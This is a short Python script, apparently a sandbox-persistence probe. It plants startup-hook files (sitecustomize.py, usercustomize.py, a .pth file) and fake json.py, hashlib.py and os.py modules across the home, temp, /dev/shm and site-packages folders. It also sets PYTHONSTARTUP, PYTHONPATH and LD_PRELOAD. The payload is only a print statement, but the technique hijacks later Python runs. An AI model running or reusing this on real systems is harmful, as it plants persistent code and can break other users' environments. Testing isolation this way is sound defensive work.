"""
Plants code in every place where an interpreter looks for it when it starts.

Success: the next job runs it.
Local: unsafe
"""
import os
import site
import sys
import tempfile

code = "print('planted')\n"
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
home = os.path.expanduser("~")
for folder in (".", home, tempfile.gettempdir(), "/work", "/tmp", "/dev/shm",
               f"{home}/.local/lib/{version}/site-packages", getattr(site, "USER_SITE", None) or "."):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "json.py", "hashlib.py", "os.py", "__main__.py"):
            open(os.path.join(folder, name), "w").write(code)
        open(os.path.join(folder, "x.pth"), "w").write("import sitecustomize\n")
    except OSError as error:
        print(error)
os.environ.update(PYTHONSTARTUP="/tmp/sitecustomize.py", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so")
